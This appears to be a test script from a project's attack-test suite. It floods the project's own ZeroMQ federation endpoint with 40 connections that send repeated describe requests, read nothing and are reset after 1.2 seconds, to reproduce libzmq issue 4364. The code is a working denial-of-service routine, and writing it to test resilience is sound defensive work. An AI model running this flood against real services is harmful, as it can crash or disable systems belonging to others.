"""Connections to ``federation.zmq`` that ask without end, read nothing and are reset.

Libzmq's issue 4364.

``python -m tests.attacks.federation_flood PORT``
"""

from __future__ import annotations

import contextlib
import socket
import sys
import time
from typing import Final

from tests.attacks.attack import Attack, moments, named, program
from tests.attacks.zmtp import connection, handshake, message, reset
from vil_bridge.protocols.federation.messages import encode_describe

CONNECTIONS: Final = 40
HELD_S: Final = 1.2
"""Longer than the heartbeat's second, after which libzmq aborted."""
_QUESTIONS: Final = message(encode_describe()) * 2000

ATTACK: Final = Attack(
    summary="40 connections ask federation.zmq for its description without end, read nothing and "
    "reset",
    commands=lambda target: [program("tests.attacks.federation_flood", target.federation_port)],
    counted=lambda before, after: named(before, after, "publish", "flood"),
)


class Flood:
    """The connections of one attacker."""

    def __init__(self, port: int) -> None:
        self._port = port
        self._peers: list[socket.socket] = []
        self._begun_s = time.monotonic()

    def step(self) -> None:
        """Open one more connection, ask on all as much as they take.

        Reset all of them after a while.
        """
        if time.monotonic() - self._begun_s > HELD_S:
            self.reset()
        with contextlib.suppress(OSError):  # refused, or cut off
            if len(self._peers) < CONNECTIONS:
                self._peers.append(connection(self._port))
                self._peers[-1].send(handshake())
        for peer in self._peers:
            with contextlib.suppress(OSError):
                peer.send(_QUESTIONS)

    def reset(self) -> None:
        """End all connections by RST."""
        for peer in self._peers:
            reset(peer)
        self._peers, self._begun_s = [], time.monotonic()


if __name__ == "__main__":
    flood = Flood(int(sys.argv[1]))
    for _ in moments(0.01):
        flood.step()
